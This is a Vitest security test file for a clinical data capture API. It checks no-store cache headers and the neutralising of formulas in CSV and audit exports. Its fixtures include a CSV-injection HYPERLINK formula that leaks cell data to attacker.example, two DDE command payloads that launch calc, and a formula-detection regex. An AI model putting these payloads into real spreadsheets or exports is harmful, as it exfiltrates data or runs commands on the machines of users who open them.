import { testDbKind } from '@mini-edc/db/testing';
import { restoreCsvText } from '@mini-edc/domain';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newSite } from '../../src/seed/factories';
import { download } from '../export-seed';
import { signedInUser } from '../factories';
import { buildTestApp, type TestContext } from '../helpers';
import { daysAgo, demographics } from '../journey-helpers';
import { call, type Session } from '../session';

/**
 * docs/security.md, control 5: no answer of the API may be kept in a cache, and no CSV export
 * may carry a cell a spreadsheet would run as a formula (OWASP CSV injection), while numbers,
 * negative ones too, stay numbers.
 */
let t: TestContext;
let admin: Session;
let coordinator: Session;
let participantId: string;
const hyperlink = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
const dde = "+cmd|' /C calc'!A0";
const reason = '@SUM(1+1)*cmd|" /C calc"!A0';
const negative = '-16';

beforeAll(async () => {
  t = await buildTestApp({ EDC_LOGIN_RATE_PER_MINUTE: 1000 });
  const site = await newSite(t.db.db, { code: 'S01' });
  admin = (await signedInUser(t, { role: 'admin', siteIds: [site.id] })).session;
  coordinator = (await signedInUser(t, { role: 'coordinator', siteIds: [site.id] })).session;
  const created = await call(t.app, coordinator, 'POST', '/api/v1/participants', {
    siteId: site.id,
    screenedAt: daysAgo(2),
  });
  participantId = created.json().id;
  const form = (code: string) => `/api/v1/participants/${participantId}/visits/SCR/forms/${code}`;
  const save = async (code: string, body: object) => {
    const res = await call(t.app, coordinator, 'PUT', form(code), body);
    expect(res.statusCode, res.body).toBe(200);
  };
  await save('demographics', { data: demographics, status: 'complete' });
  const consent = { consent_date: daysAgo(1), icf_version: negative };
  await save('consent', { data: { ...consent, obtained_by: hyperlink }, status: 'complete' });
  await save('consent', { data: { ...consent, obtained_by: dde }, status: 'complete', reason });
});
afterAll(() => t?.close());

const dangerous = /^[=+\-@\t\r]/;
const plainNumber = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)$/;

function cells(text: string): string[][] {
  return parse(text, { bom: true, comment: '#', relax_column_count: true });
}

function expectNoFormula(rows: string[][]) {
  for (const row of rows) {
    for (const cell of row) {
      if (dangerous.test(cell)) expect(cell, 'a cell a spreadsheet would run').toMatch(plainNumber);
    }
  }
}

describe(`Cache-Control: no-store on every API answer, on ${testDbKind()}`, () => {
  it.each([
    ['GET', '/api/v1/auth/me', 200],
    ['GET', '/api/v1/participants', 200],
    ['GET', '/api/v1/health', 200],
    ['GET', '/api/v1/no-such-route', 404],
    ['GET', '/api/v1/admin/users', 403],
  ] as const)('%s %s (%i)', async (method, url, status) => {
    const res = await call(t.app, coordinator, method, url);
    expect(res.statusCode).toBe(status);
    expect(res.headers['cache-control']).toBe('no-store');
  });

  it('also on a refused sign-in, a participant and an export', async () => {
    const login = await t.app.inject({
      method: 'POST',
      url: '/api/v1/auth/login',
      headers: { 'x-csrf-token': 'login' },
      payload: { email: 'nobody@test.edc', password: 'Whatever-Password-77' },
    });
    expect(login.headers['cache-control']).toBe('no-store');
    const one = await call(t.app, coordinator, 'GET', `/api/v1/participants/${participantId}`);
    expect(one.statusCode).toBe(200);
    expect(one.headers['cache-control']).toBe('no-store');
    const { res } = await download(t.app, admin, 'long.csv');
    expect(res.headers['cache-control']).toBe('no-store');
  });
});

describe(`CSV exports neutralise formulas, on ${testDbKind()}`, () => {
  it('marks formula-like text in the long file as text, keeps numbers, and can be read back', async () => {
    const { res, text } = await download(t.app, admin, 'long.csv');
    expect(res.statusCode).toBe(200);
    const rows = cells(text);
    expectNoFormula(rows);
    const header = rows[0] ?? [];
    const value = (field: string) =>
      rows.find((r) => r[header.indexOf('form')] === 'consent' && r[header.indexOf('field')] === field)?.[
        header.indexOf('value')
      ];
    expect(value('obtained_by')).toBe(`'${dde}`);
    expect(restoreCsvText(value('obtained_by') ?? '')).toBe(dde);
    expect(value('icf_version')).toBe(negative);
  });

  it('does the same in the wide file and both data dictionaries, which explain the rule', async () => {
    const wide = await download(t.app, admin, 'wide.csv');
    expect(wide.res.statusCode).toBe(200);
    expectNoFormula(cells(wide.text));
    expect(wide.text).toContain(`'${dde}`);
    const dictionary = await download(t.app, admin, 'dictionary.csv');
    expectNoFormula(cells(dictionary.text));
    const markdown = await download(t.app, admin, 'dictionary.md');
    expect(markdown.text).toMatch(/apostrophe/);
  });

  it('neutralises reasons and old and new values in the audit trail CSV', async () => {
    const res = await call(t.app, admin, 'GET', `/api/v1/audit/export.csv?participantId=${participantId}`);
    expect(res.statusCode).toBe(200);
    const rows = cells(res.body);
    expectNoFormula(rows);
    const flat = rows.flat();
    expect(flat).toContain(`'${reason}`);
    expect(flat).toContain(`'${hyperlink}`);
    expect(flat).toContain(`'${dde}`);
  });
});
